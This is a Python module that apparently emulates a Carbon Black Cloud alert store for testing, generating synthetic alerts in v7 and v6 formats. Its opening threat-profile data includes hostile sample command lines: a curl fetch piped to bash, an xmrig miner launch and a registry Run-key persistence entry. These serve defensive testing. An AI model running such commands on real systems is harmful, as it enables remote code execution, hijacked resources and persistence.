    _Threat("curl", "c:\\windows\\system32\\curl.exe", "/usr/bin/curl", "curl -s http://203.0.113.50/install.sh", "TRUSTED_WHITE_LIST", "bash", "The application curl fetched a script piped into a shell.", ("RUN_CMD_SHELL", "MITRE_T1059_004_UNIX_SHELL"), "TA0002"),
    _Threat("xmrig", "c:\\users\\{user}\\appdata\\local\\temp\\xmrig.exe", "/tmp/.x/xmrig", "xmrig -o pool.example.net:3333", "KNOWN_MALWARE", "bash", "A cryptocurrency miner (xmrig) was detected and terminated.", ("KNOWN_MALWARE", "POLICY_TERMINATE", "MITRE_T1496_RESOURCE_HIJACKING"), "TA0040"),
    _Threat("wscript.exe", "c:\\windows\\system32\\wscript.exe", "/usr/bin/wscript", "wscript.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\update.js", "TRUSTED_WHITE_LIST", "chrome.exe", "The application wscript.exe executed a script downloaded by a browser.", ("SUSPICIOUS_BEHAVIOR", "MITRE_T1059_007_JAVASCRIPT"), "TA0002"),
    _Threat("reg.exe", "c:\\windows\\system32\\reg.exe", "/usr/bin/reg", "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\ProgramData\\upd.exe", "TRUSTED_WHITE_LIST", "cmd.exe", "The application reg.exe added an autorun entry.", ("PERSISTENCE", "MITRE_T1547_001_REGISTRY_RUN_KEYS"), "TA0003"),
)  # fmt: skip

_ALERT_TYPES: tuple[tuple[str, int], ...] = (
    ("CB_ANALYTICS", 50),
    ("WATCHLIST", 30),
    ("DEVICE_CONTROL", 6),
    ("CONTAINER_RUNTIME", 4),
    ("HOST_BASED_FIREWALL", 5),
    ("INTRUSION_DETECTION_SYSTEM", 5),
)
_WATCHLISTS = (
    ("NT2FaWdORZWY1YUTcEpULA", "ATT&CK Framework"),
    ("9x0timurQkQA0NdyCVgLg", "Suspicious Indicators"),
    ("w7iTsKs4QPKfgodG8dLLiw", "AMSI Threat Intelligence"),
)
_SENSOR_ACTIONS = ("DENY", "TERMINATE", "ALLOW", "ALLOW_AND_LOG")
V7_TIME_CRITERIA = frozenset(
    {
        "backend_timestamp",
        "backend_update_timestamp",
        "detection_timestamp",
        "first_event_timestamp",
        "last_event_timestamp",
        "mdr_determination_change_timestamp",
        "mdr_workflow_change_timestamp",
        "user_update_timestamp",
        "workflow_change_timestamp",
    }
)
V6_TIME_CRITERIA = frozenset(
    {"create_time", "first_event_time", "last_event_time", "last_update_time"}
)
V6_FACET_FIELDS = {
    "ALERT_TYPE": "type",
    "CATEGORY": "category",
    "REPUTATION": "reputation",
    "WORKFLOW": "workflow",
    "TAG": "tag",
    "POLICY_ID": "policy_id",
    "POLICY_NAME": "policy_name",
    "DEVICE_ID": "device_id",
    "DEVICE_NAME": "device_name",
    "APPLICATION_HASH": "process_sha256",
    "APPLICATION_NAME": "process_name",
    "STATUS": "workflow",
    "RUN_STATE": "run_state",
    "POLICY_APPLIED_STATE": "policy_applied",
    "POLICY_APPLIED": "policy_applied",
    "SENSOR_ACTION": "sensor_action",
}
V7_FACET_FIELDS = (
    "type",
    "severity",
    "threat_id",
    "device_id",
    "device_name",
    "device_os",
    "device_os_version",
    "device_policy",
    "device_policy_id",
    "device_target_value",
    "device_username",
    "process_name",
    "process_sha256",
    "process_reputation",
    "process_effective_reputation",
    "parent_name",
    "reason_code",
    "run_state",
    "policy_applied",
    "sensor_action",
    "tags",
    "ttps",
    "attack_tactic",
    "workflow_status",
    "determination_value",
    "alert_origin",
    "watchlists_name",
    "device_location",
)


def _weighted(choices: Sequence[tuple[str, int]], x: int) -> str:
    total = sum(w for _, w in choices)
    pick = x % total
    for value, weight in choices:
        if pick < weight:
            return value
        pick -= weight
    return choices[-1][0]


def _uuid(*parts: object) -> str:
    h = f"{stable(*parts):016x}{stable(*parts, 'b'):016x}"
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"


@dataclass
class Workflow:
    """An alert's user-changeable state."""

    status: str = "OPEN"
    closure_reason: str = "NO_REASON"
    note: str | None = None
    changed_by: str = "ALERT_CREATION"
    changed_by_type: str = "SYSTEM"
    change_timestamp: float = 0.0
    determination: str = "NONE"


class AlertStore:
    """Cloud alerts: v7 records as ground truth, v6 as a view of them."""

    def __init__(
        self,
        endpoints: EndpointPopulation,
        *,
        seed: int,
        count: int,
        org_key: str,
        epoch: float,
        history_days: int,
        now: Callable[[], float],
    ) -> None:
        self.endpoints = endpoints
        self.seed = seed
        self.count = count
        self.org_key = org_key
        self.epoch = epoch
        self.history = history_days * 86_400
        self.now = now
        self._rows: list[dict[str, Any]] | None = None
        self._by_id: dict[str, int] = {}
        self.workflows: dict[int, Workflow] = {}
        self.threat_workflows: dict[str, Workflow] = {}
        self.notes: dict[str, list[dict[str, Any]]] = {}
        self.threat_notes: dict[str, list[dict[str, Any]]] = {}
        self.threat_tags: dict[str, list[str]] = {}
        self.history_log: dict[str, list[dict[str, Any]]] = {}
        self.v7 = self._table(v6=False)
        self.v6 = self._table(v6=True)

    # -- generation ------------------------------------------------------------------------------
    def rows(self) -> list[dict[str, Any]]:
        if self._rows is None:
            self._rows = [self._generate(i) for i in range(self.count)]
            self._by_id = {r["id"]: i for i, r in enumerate(self._rows)}
        return self._rows

    def index_of(self, alert_id: str) -> int | None:
        self.rows()
        return self._by_id.get(alert_id)

    def _generate(self, i: int) -> dict[str, Any]:
        seed = self.seed
        h = mix(seed, i, 77)
        kind = _weighted(_ALERT_TYPES, h)
        ep = self.endpoints[(h >> 8) % len(self.endpoints)]
        windows = ep.os_family == "windows"
        threat_index = (h >> 16) % max(1, self.count // 4 or 1)
        profile = _THREATS[(threat_index + (0 if windows else 6)) % len(_THREATS)]
        backend = self.epoch - (i + 0.5) * self.history / max(self.count, 1) - (h >> 24) % 600
        first = backend - 60 - (h >> 32) % 3600
        last = backend - (h >> 40) % 60
        severity = 1 + (h >> 48) % 10
        user = ep.username.rsplit("\\", 1)[-1]
        path = (profile.path_windows if windows else profile.path_unix).replace("{user}", user)
        cmdline = profile.cmdline.replace("{user}", user)
        pid = 1000 + (h >> 20) % 60_000
        parent_pid = 400 + (h >> 28) % 8000
        threat_id = f"{stable('threat', seed, threat_index):032X}"[:32]
        device_guid = f"{ep.device_id & 0xFFFFFFFF:08x}"
        process_guid = f"{self.org_key}-{device_guid}-{pid:08x}-00000000-1d{(h >> 4) % 16**13:013x}"
        parent_guid = (
            f"{self.org_key}-{device_guid}-{parent_pid:08x}-00000000-1d{(h >> 6) % 16**13:013x}"
        )
        alert_id = _uuid("alert", seed, i)
        sensor_action = _SENSOR_ACTIONS[(h >> 3) % 4] if kind == "CB_ANALYTICS" else "ALLOW"
        row: dict[str, Any] = {
            "org_key": self.org_key,
            "alert_url": f"defense.conferdeploy.net/alerts?s[c][query_string]=id:{alert_id}&orgKey={self.org_key}",
            "id": alert_id,
            "type": kind,
            "backend_timestamp": iso(backend),
            "user_update_timestamp": None,
            "backend_update_timestamp": iso(backend + 30),
            "detection_timestamp": iso(last),
            "first_event_timestamp": iso(first),
            "last_event_timestamp": iso(last),
            "severity": severity,
            "reason": profile.reason,
            "reason_code": f"{stable('rc', profile.name):016x}"[:8]
            + ":"
            + f"{stable('rc2', kind):016x}"[:8],
            "threat_id": threat_id,
            "primary_event_id": f"{stable('event', seed, i):032x}"[:22],
            "policy_applied": "APPLIED"
            if sensor_action in ("DENY", "TERMINATE")
            else "NOT_APPLIED",
            "run_state": "DID_NOT_RUN" if sensor_action in ("DENY", "TERMINATE") else "RAN",
            "sensor_action": sensor_action,
            "tags": ["emulated"] if i % 11 == 0 else [],
            "is_updated": False,
            "device_id": ep.device_id,
            "device_name": ep.hostname,
            "device_uem_id": "",
            "device_target_value": "HIGH" if ep.host_type != "workstation" else "MEDIUM",
            "device_policy": ep.policy_name,
            "device_policy_id": ep.policy_id,
            "device_os": ep.cloud_os,
            "device_os_version": ep.cloud_os_version,
            "device_username": ep.username,
            "device_location": "OFFSITE" if ep.index % 4 == 1 else "ONSITE",
            "device_external_ip": ep.external_ip,
            "device_internal_ip": ep.internal_ip,
            "mdr_alert": False,
            "mdr_alert_notes_present": False,
            "mdr_threat_notes_present": False,
            "ttps": list(profile.ttps),
            "attack_tactic": profile.tactic,
            "attack_technique": profile.ttps[-1].split("_")[1]
            if "MITRE" in profile.ttps[-1]
            else "",
            "process_guid": process_guid,
            "process_pid": pid,
            "process_name": profile.name,
            "process_sha256": profile.sha256(),
            "process_md5": profile.md5(),
            "process_effective_reputation": profile.reputation,
            "process_reputation": profile.reputation,
            "process_cmdline": cmdline,
            "process_username": ep.username,
            "process_issuer": [],
            "process_publisher": [],
            "parent_guid": parent_guid,
            "parent_pid": parent_pid,
            "parent_name": profile.parent,
            "parent_sha256": hashlib.sha256(profile.parent.encode()).hexdigest(),
            "parent_md5": hashlib.md5(profile.parent.encode(), usedforsecurity=False).hexdigest(),
            "parent_effective_reputation": "TRUSTED_WHITE_LIST",
            "parent_reputation": "TRUSTED_WHITE_LIST",
            "parent_cmdline": profile.parent,
            "parent_username": ep.username,
            "childproc_guid": "",
            "childproc_username": "",
            "childproc_cmdline": "",
            "process_path": path,
            "alert_origin": "MDR_THREAT_HUNT" if i % 97 == 5 else "PRODUCT",
        }
        if kind == "WATCHLIST":
            wl_id, wl_name = _WATCHLISTS[h % len(_WATCHLISTS)]
            row.update(
                {
                    "watchlists": [{"id": wl_id, "name": wl_name}],
                    "report_id": f"{wl_id}-{profile.tactic}",
                    "report_name": f"Suspicious {profile.name}",
                    "report_link": "https://attack.mitre.org/tactics/" + profile.tactic,
                    "report_tags": [profile.tactic.lower()],
                    "report_description": profile.reason,
                    "ioc_id": f"{stable('ioc', profile.name):016x}",
                    "ioc_field": "process_name",
                    "ioc_hit": f"process_name:{profile.name}",
                    "reason": f'Process {profile.name} was detected by the report "Suspicious {profile.name}" in watchlist "{wl_name}"',
                }
            )
        elif kind == "CB_ANALYTICS":
            row.update(
                {
                    "blocked_threat_category": "NON_MALWARE"
                    if sensor_action != "ALLOW"
                    else "UNKNOWN",
                    "not_blocked_threat_category": "UNKNOWN",
                    "kill_chain_status": ["INSTALL_RUN"],
                    "threat_cause_vector": "WEB" if h % 3 else "EMAIL",
                }
            )
        elif kind == "DEVICE_CONTROL":
            row.update(
                {
                    "reason": "Access attempted on unapproved USB device SanDisk Cruzer Blade (SN: 4C530001"
                    f"{h % 10**8:08d}). A Block Policy Action was applied.",
                    "external_device_friendly_name": "SanDisk Cruzer Blade",
                    "product_id": "0x5567",
                    "vendor_id": "0x0781",
                    "vendor_name": "SanDisk",
                    "serial_number": f"4C530001{h % 10**8:08d}",
                    "policy_applied": "APPLIED",
                    "run_state": "DID_NOT_RUN",
                    "sensor_action": "DENY",
                }
            )
        elif kind == "HOST_BASED_FIREWALL":
            row.update(
                {
                    "reason": f"The firewall blocked an outbound connection from {profile.name} to 203.0.113.{h % 250}:443.",
                    "rule_name": "Block untrusted egress",
                    "remote_ip": f"203.0.113.{h % 250}",
                    "remote_port": 443,
                    "protocol": "TCP",
                    "egress_group_name": "Internet",
                }
            )
        elif kind == "INTRUSION_DETECTION_SYSTEM":
            row.update(
                {
                    "reason": "Signature 2024897 (ET EXPLOIT Possible Log4j RCE) matched inbound traffic.",
                    "threat_name": "ET EXPLOIT Possible Log4j RCE",
                    "ids_signature_id": 2_024_897,
                    "remote_ip": f"198.51.100.{h % 250}",
                    "remote_port": 51_000 + h % 1000,
                    "local_port": 8080,
                }
            )
        elif kind == "CONTAINER_RUNTIME":
            row.update(
                {
                    "reason": "A container made an egress connection to an address outside its network policy.",
                    "cluster_name": "prod-east",
                    "namespace": "payments",
                    "workload_kind": "Deployment",
                    "workload_name": "checkout-api",
                    "replica_id": f"checkout-api-{h % 10**5:05d}",
                }
            )
        return row

    # -- workflow --------------------------------------------------------------------------------
    def workflow(self, i: int) -> Workflow:
        row = self.rows()[i]
        own = self.workflows.get(i)
        threat = self.threat_workflows.get(row["threat_id"])
        if own is None and threat is None:
            return Workflow(change_timestamp=epoch_of(row["backend_timestamp"]))
        if own is None:
            assert threat is not None
            return threat
        if threat is None or own.change_timestamp >= threat.change_timestamp:
            return own
        return threat

    def set_workflow(
        self,
        indices: Iterable[int],
        *,
        status: str,
        closure_reason: str | None,
        determination: str | None,
        note: str | None,
        changed_by: str,
    ) -> int:
        now = self.now()
        changed = 0
        for i in indices:
            before = self.workflow(i)
            wf = Workflow(
                status=status,
                closure_reason=closure_reason
                or ("NO_REASON" if status == "CLOSED" else before.closure_reason),
                note=note,
                changed_by=changed_by,
                changed_by_type="API",
                change_timestamp=now,
                determination=determination or before.determination,
            )
            self.workflows[i] = wf
            row = self.rows()[i]
            self.history_log.setdefault(row["id"], []).append(
                {
                    "type": "WORKFLOW",
                    "create_timestamp": iso(now),
                    "changed_by": changed_by,
                    "changed_by_type": "API",
                    "status": status,
                    "closure_reason": wf.closure_reason,
                    "note": note,
                }
            )
            if note:
                self.add_note(row["id"], note, changed_by)
            changed += 1
        return changed

    def set_threat_workflow(
        self,
        threat_ids: Iterable[str],
        *,
        status: str,
        remediation: str | None,
        comment: str | None,
        changed_by: str,
    ) -> int:
        now = self.now()
        ids = set(threat_ids)
        for threat in ids:
            self.threat_workflows[threat] = Workflow(
                status=status,
                closure_reason=remediation or "NO_REASON",
                note=comment,
                changed_by=changed_by,
                changed_by_type="API",
                change_timestamp=now,
            )
        return sum(1 for r in self.rows() if r["threat_id"] in ids)

    def add_note(
        self, alert_id: str, text: str, author: str, *, threat: bool = False
    ) -> dict[str, Any]:
        now = self.now()
        note = {
            "id": _uuid("note", alert_id, len(self.notes.get(alert_id, [])), now),
            "author": author,
            "create_timestamp": iso(now),
            "last_update_timestamp": iso(now),
            "note": text,
            "source": "CUSTOMER",
            "parent_id": None,
        }
        store = self.threat_notes if threat else self.notes
        store.setdefault(alert_id, []).append(note)
        return note

    # -- rendering -------------------------------------------------------------------------------
    def render_v7(self, i: int) -> dict[str, Any]:
        row = dict(self.rows()[i])
        wf = self.workflow(i)
        changed = iso(wf.change_timestamp)
        row["workflow"] = {
            "change_timestamp": changed,
            "changed_by_type": wf.changed_by_type,
            "changed_by": wf.changed_by,
            "closure_reason": wf.closure_reason,
            "status": wf.status,
        }
        row["determination"] = {
            "change_timestamp": changed,
            "value": wf.determination,
            "changed_by_type": wf.changed_by_type,
            "changed_by": wf.changed_by,
        }
        if wf.changed_by_type == "API":
            row["user_update_timestamp"] = changed
            row["backend_update_timestamp"] = changed
            row["is_updated"] = True
        row["alert_notes_present"] = bool(self.notes.get(row["id"]))
        row["threat_notes_present"] = bool(self.threat_notes.get(row["threat_id"]))
        return row

    def render_v6(self, i: int) -> dict[str, Any]:
        v7 = self.render_v7(i)
        wf = self.workflow(i)
        v6: dict[str, Any] = {
            "id": v7["id"],
            "legacy_alert_id": v7["id"],
            "org_key": v7["org_key"],
            "type": "VMWARE" if v7["type"] == "INTRUSION_DETECTION_SYSTEM" else v7["type"],
            "category": "THREAT" if v7["severity"] >= 5 else "MONITORED",
            "severity": v7["severity"],
            "create_time": v7["backend_timestamp"],
            "last_update_time": v7["backend_update_timestamp"],
            "first_event_time": v7["first_event_timestamp"],
            "last_event_time": v7["last_event_timestamp"],
            "threat_id": v7["threat_id"],
            "device_id": v7["device_id"],
            "device_name": v7["device_name"],
            "device_os": v7["device_os"],
            "device_os_version": v7["device_os_version"],
            "device_username": v7["device_username"],
            "policy_id": v7["device_policy_id"],
            "policy_name": v7["device_policy"],
            "target_value": v7["device_target_value"],
            "notes_present": v7["alert_notes_present"],
            "tags": v7["tags"],
            "reason": v7["reason"],
            "reason_code": v7["reason_code"],
            "process_name": v7["process_name"],
            "threat_cause_actor_name": v7["process_name"],
            "threat_cause_actor_sha256": v7["process_sha256"],
            "threat_cause_actor_md5": v7["process_md5"],
            "threat_cause_reputation": v7["process_reputation"],
            "threat_cause_parent_guid": v7["parent_guid"],
            "threat_cause_process_guid": v7["process_guid"],
            "threat_cause_cause_event_id": v7["primary_event_id"],
            "created_by_event_id": v7["primary_event_id"],
            "threat_indicators": [
                {
                    "process_name": v7["process_name"],
                    "sha256": v7["process_sha256"],
                    "ttps": v7["ttps"],
                }
            ],
            "run_state": v7["run_state"],
            "policy_applied": v7["policy_applied"],
            "sensor_action": v7["sensor_action"],
            "workflow": {
                "state": "DISMISSED" if wf.status == "CLOSED" else "OPEN",
                "remediation": wf.closure_reason if wf.changed_by_type == "API" else None,
                "comment": wf.note,
                "changed_by": wf.changed_by,
                "last_update_time": iso(wf.change_timestamp),
            },
            "group_details": {"count": 1, "total_devices": 1},
        }
        for key in (
            "blocked_threat_category",
            "not_blocked_threat_category",
            "kill_chain_status",
            "threat_cause_vector",
            "watchlists",
            "report_id",
            "report_name",
            "ioc_id",
            "ioc_field",
            "ioc_hit",
            "device_location",
        ):
            if key in v7:
                v6[key] = v7[key]
        return v6

    # -- tables ----------------------------------------------------------------------------------
    def _table(self, *, v6: bool) -> Table:
        def raw(name: str) -> Getter:
            return lambda i: self.rows()[i].get(name)

        def epoch_col(name: str) -> Getter:
            return lambda i: epoch_of(self.rows()[i][name]) if self.rows()[i].get(name) else None

        def wf_status(i: int) -> str:
            return self.workflow(i).status

        def wf_time(i: int) -> float:
            return self.workflow(i).change_timestamp

        v7_cols: dict[str, Column] = {k: raw(k) for k in _V7_KEYWORD_FIELDS}
        v7_cols.update(
            {
                k: epoch_col(k)
                for k in (
                    "backend_timestamp",
                    "detection_timestamp",
                    "first_event_timestamp",
                    "last_event_timestamp",
                )
            }
        )
        v7_cols.update(
            {
                "severity": raw("severity"),
                "device_id": raw("device_id"),
                "device_policy_id": raw("device_policy_id"),
                "process_pid": raw("process_pid"),
                "workflow_status": wf_status,
                "workflow.status": wf_status,
                "workflow_closure_reason": lambda i: self.workflow(i).closure_reason,
                "determination_value": lambda i: self.workflow(i).determination,
                "determination.value": lambda i: self.workflow(i).determination,
                "backend_update_timestamp": lambda i: max(
                    epoch_of(self.rows()[i]["backend_update_timestamp"]), wf_time(i)
                ),
                "user_update_timestamp": lambda i: (
                    wf_time(i) if self.workflow(i).changed_by_type == "API" else None
                ),
                "workflow_change_timestamp": wf_time,
                "mdr_workflow_change_timestamp": lambda i: None,
                "mdr_determination_change_timestamp": lambda i: None,
                "alert_notes_present": lambda i: bool(self.notes.get(self.rows()[i]["id"])),
                "threat_notes_present": lambda i: bool(
                    self.threat_notes.get(self.rows()[i]["threat_id"])
                ),
                "watchlists_name": lambda i: [
                    w["name"] for w in self.rows()[i].get("watchlists", [])
                ],
                "watchlists_id": lambda i: [w["id"] for w in self.rows()[i].get("watchlists", [])],
                "remote_ip": raw("remote_ip"),
            }
        )
        if not v6:
            schema: dict[str, FieldType] = dict.fromkeys(v7_cols, "keyword")
            schema.update(dict.fromkeys(V7_TIME_CRITERIA, "date"))
            schema.update(
                {
                    "severity": "number",
                    "device_id": "number",
                    "device_policy_id": "number",
                    "process_pid": "number",
                    "process_cmdline": "text",
                    "reason": "text",
                    "device_internal_ip": "ip",
                    "device_external_ip": "ip",
                    "alert_notes_present": "bool",
                    "threat_notes_present": "bool",
                }
            )
            return Table(
                count=lambda: self.count,
                columns=v7_cols,
                schema=schema,
                default_fields=(
                    "reason",
                    "process_name",
                    "device_name",
                    "process_cmdline",
                    "threat_id",
                ),
                time_field="backend_timestamp",
                time_criteria=V7_TIME_CRITERIA,
                special={"minimum_severity": self._min_severity},
                aliases={
                    "workflow": "workflow_status",
                    "determination": "determination_value",
                    "policy_id": "device_policy_id",
                    "policy_name": "device_policy",
                    "target_value": "device_target_value",
                },
            )
        v6_cols: dict[str, Column] = dict(v7_cols)
        v6_cols.update(
            {
                "category": lambda i: "THREAT" if self.rows()[i]["severity"] >= 5 else "MONITORED",
                "type": lambda i: (
                    "VMWARE"
                    if self.rows()[i]["type"] == "INTRUSION_DETECTION_SYSTEM"
                    else self.rows()[i]["type"]
                ),
                "policy_id": raw("device_policy_id"),
                "policy_name": raw("device_policy"),
                "target_value": raw("device_target_value"),
                "legacy_alert_id": raw("id"),
                "reputation": raw("process_reputation"),
                "tag": raw("tags"),
                "workflow": lambda i: (
                    "DISMISSED" if self.workflow(i).status == "CLOSED" else "OPEN"
                ),
                "create_time": epoch_col("backend_timestamp"),
                "first_event_time": epoch_col("first_event_timestamp"),
                "last_event_time": epoch_col("last_event_timestamp"),
                "last_update_time": lambda i: max(
                    epoch_of(self.rows()[i]["backend_update_timestamp"]), wf_time(i)
                ),
                "threat_cause_actor_name": raw("process_name"),
                "threat_cause_actor_sha256": raw("process_sha256"),
                "watchlist_id": lambda i: [w["id"] for w in self.rows()[i].get("watchlists", [])],
                "watchlist_name": lambda i: [
                    w["name"] for w in self.rows()[i].get("watchlists", [])
                ],
            }
        )
        schema6: dict[str, FieldType] = dict.fromkeys(v6_cols, "keyword")
        schema6.update(dict.fromkeys(V6_TIME_CRITERIA, "date"))
        schema6.update(
            {"severity": "number", "device_id": "number", "policy_id": "number", "reason": "text"}
        )
        return Table(
            count=lambda: self.count,
            columns=v6_cols,
            schema=schema6,
            default_fields=("reason", "process_name", "device_name", "threat_id"),
            time_field="create_time",
            time_criteria=V6_TIME_CRITERIA,
            special={
                "minimum_severity": self._min_severity,
                "group_results": lambda _: lambda i: True,
            },
        )

    def _min_severity(self, wanted: list[Any]) -> Callable[[int], bool]:
        try:
            floor = int(wanted[0]) if wanted else 0
        except (TypeError, ValueError):
            raise CriteriaError(
                "minimum_severity must be an integer", field="criteria.minimum_severity"
            ) from None
        return lambda i: int(self.rows()[i]["severity"]) >= floor

    def facet_field(self, name: str, *, v6: bool) -> str:
        if v6:
            column = V6_FACET_FIELDS.get(name.upper())
            if column is None:
                raise CriteriaError(
                    f"Malformed JSON input: terms.fields: invalid value {name!r}",
                    field="terms.fields",
                    known=tuple(V6_FACET_FIELDS),
                )
            return column
        if name.lower() not in V7_FACET_FIELDS:
            raise CriteriaError(
                f"Malformed JSON input: terms.fields: invalid value {name!r}",
                field="terms.fields",
                known=V7_FACET_FIELDS,
            )
        return name.lower()


_V7_KEYWORD_FIELDS = (
    "id",
    "type",
    "org_key",
    "reason",
    "reason_code",
    "threat_id",
    "primary_event_id",
    "policy_applied",
    "run_state",
    "sensor_action",
    "tags",
    "device_name",
    "device_target_value",
    "device_policy",
    "device_os",
    "device_os_version",
    "device_username",
    "device_location",
    "device_external_ip",
    "device_internal_ip",
    "ttps",
    "attack_tactic",
    "attack_technique",
    "process_guid",
    "process_name",
    "process_sha256",
    "process_md5",
    "process_effective_reputation",
    "process_reputation",
    "process_cmdline",
    "process_username",
    "parent_guid",
    "parent_name",
    "parent_sha256",
    "parent_effective_reputation",
    "parent_reputation",
    "parent_cmdline",
    "report_id",
    "report_name",
    "ioc_id",
    "ioc_hit",
    "alert_origin",
    "blocked_threat_category",
    "not_blocked_threat_category",
    "threat_cause_vector",
    "external_device_friendly_name",
    "serial_number",
    "vendor_name",
    "rule_name",
    "threat_name",
    "cluster_name",
    "namespace",
    "workload_name",
)


# --------------------------------------------------------------------------------------------
# The org: every cloud store of one emulator state, created on first use
# --------------------------------------------------------------------------------------------

CLOUD_BACKEND = "cloud_org"


class CloudOrg:
    """The Carbon Black Cloud org of an emulator state."""

    def __init__(self, state: Any) -> None:
        from cbasync.testing.state import EmulatorState

        assert isinstance(state, EmulatorState)
        self.state = state
        config = state.config
        self.config = config
        self.org_key = config.org_key
        self.seed = config.seed
        self.anchor = config.data_epoch
        """End of the generated history: relative time windows count back from here."""
        self.devices = DeviceStore(
            state.endpoints,
            org_name=config.org_name,
            now=state.clock.time,
            monotonic=state.clock.monotonic,
            isolation_delay=config.isolation_delay,
        )
        self.alerts = AlertStore(
            state.endpoints,
            seed=config.seed,
            count=config.cloud_alerts,
            org_key=config.org_key,
            epoch=config.data_epoch,
            history_days=config.history_days,
            now=state.clock.time,
        )
        self._extras: dict[str, Any] = {}

    def lazy(self, name: str, factory: Callable[[], Any]) -> Any:
        value = self._extras.get(name)
        if value is None:
            value = self._extras[name] = factory()
        return value


def cloud_org(state: Any) -> CloudOrg:
    """The state's cloud org (created on first use, shared by every cloud route module)."""
    org: CloudOrg = state.backend(CLOUD_BACKEND, CloudOrg)
    return org
